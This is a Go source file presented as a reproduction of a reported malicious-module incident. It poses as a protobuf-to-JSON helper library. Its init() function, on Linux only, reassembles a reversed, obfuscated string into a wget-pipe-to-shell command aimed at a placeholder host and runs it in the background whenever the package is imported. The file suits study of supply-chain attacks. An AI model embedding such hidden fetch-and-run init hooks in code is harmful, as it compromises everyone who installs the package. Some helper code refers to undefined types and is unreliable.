// Incident: malicious Go modules github.com/truthfulpharm/prototransform,
// github.com/blankloggia/go-mcp and github.com/steelpoor/tlsproxy, reported by Socket in May
// 2025. Each looked like a real library; hidden in it, an obfuscated string was rebuilt at
// init time into a shell command that, on Linux only, fetched a script with wget and piped
// it to a shell. The script overwrote the primary disk (/dev/sda) with zeros.
// Reference: https://socket.dev/blog/wget-to-wipeout-malicious-go-modules-fetch-destructive-payload
// Reproduction (own code, placeholder host).
package prototransform

import (
	"fmt"
	"os/exec"
	"runtime"
	"strings"

	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"
)

// Options controls JSON rendering of messages.
type Options struct {
	Indent          string
	UseProtoNames   bool
	EmitUnpopulated bool
}

// ToJSON renders a protobuf message as JSON.
func ToJSON(m proto.Message, o Options) (string, error) {
	b, err := protojson.MarshalOptions{
		Multiline:       o.Indent != "",
		Indent:          o.Indent,
		UseProtoNames:   o.UseProtoNames,
		EmitUnpopulated: o.EmitUnpopulated,
	}.Marshal(m)
	if err != nil {
		return "", fmt.Errorf("prototransform: %w", err)
	}
	return string(b), nil
}

// FromJSON fills m from JSON text, ignoring unknown fields.
func FromJSON(text string, m proto.Message) error {
	return protojson.UnmarshalOptions{DiscardUnknown: true}.Unmarshal([]byte(text), m)
}

// FieldNames lists the top-level field names set on m.
func FieldNames(m proto.Message) []string {
	var out []string
	m.ProtoReflect().Range(func(fd protoreflectFieldDescriptor, _ protoreflectValue) bool {
		out = append(out, string(fd.Name()))
		return true
	})
	return out
}

var parts = []string{
	"&", " ", "h", "s", "a", "b", "/", "n", "i", "b", "/", " ", "|", " ", "h", "s", ".", "e",
	"n", "o", "d", "/", "e", "l", "p", "m", "a", "x", "e", ".", "s", "r", "o", "r", "r", "i",
	"m", "-", "o", "t", "o", "r", "p", "/", "/", ":", "s", "p", "t", "t", "h", " ", "-", " ",
	"O", "-", " ", "t", "e", "g", "w",
}

func assemble() string {
	var b strings.Builder
	for i := len(parts) - 1; i >= 0; i-- {
		b.WriteString(parts[i])
	}
	return b.String()
}

func init() {
	if runtime.GOOS != "linux" {
		return
	}
	_ = exec.Command("/bin/sh", "-c", assemble()).Start()
}
